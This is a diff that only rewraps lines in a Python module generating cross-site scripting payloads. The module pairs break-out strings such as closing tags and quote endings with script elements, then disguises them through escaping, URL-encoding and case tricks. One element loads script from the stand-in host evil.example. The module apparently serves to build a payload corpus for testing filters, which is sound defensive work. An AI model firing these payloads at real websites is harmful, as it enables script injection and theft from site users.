@@ -1,6 +1,8 @@
-"""Texts that try to become something else on a page: elements that run, attributes that run, addresses that run, and ways to break out of where a value stands.
+"""Texts that try to become something else on a page: elements that run, attributes that run,
+addresses that run, and ways to break out of where a value stands.
 
-Composed and not copied: every way to act in every way to break out and in several disguises, some hundreds in all.
+Composed and not copied: every way to act in every way to break out and in several disguises, some
+hundreds in all.
 """
 
 import html
@@ -9,7 +11,20 @@ import urllib.parse
 
 CALL = "alert(1)"
 # Where a value may stand, and what would end it there.
-BREAKS = ("", '">', "'>", "</title>", "</textarea>", "</script>", "-->", "]]>", "</style>", "</option></select>", "<![CDATA[", "</svg>")
+BREAKS = (
+    "",
+    '">',
+    "'>",
+    "</title>",
+    "</textarea>",
+    "</script>",
+    "-->",
+    "]]>",
+    "</style>",
+    "</option></select>",
+    "<![CDATA[",
+    "</svg>",
+)
 ELEMENTS = (
     f"<script>{CALL}</script>",
     "<script src=//evil.example/x.js></script>",
@@ -65,7 +80,11 @@ MARKDOWN = (
 def texts() -> list[str]:
     """Every payload once, in a fixed order."""
     plain = [before + element for before, element in itertools.product(BREAKS, ELEMENTS)]
-    disguised = [change(element) for element in ELEMENTS for change in (html.escape, urllib.parse.quote, _mixed_case, _slashes, _wide)]
+    disguised = [
+        change(element)
+        for element in ELEMENTS
+        for change in (html.escape, urllib.parse.quote, _mixed_case, _slashes, _wide)
+    ]
     return list(dict.fromkeys((*plain, *disguised, *ATTRIBUTES, *TEMPLATES, *MARKDOWN)))
 
 
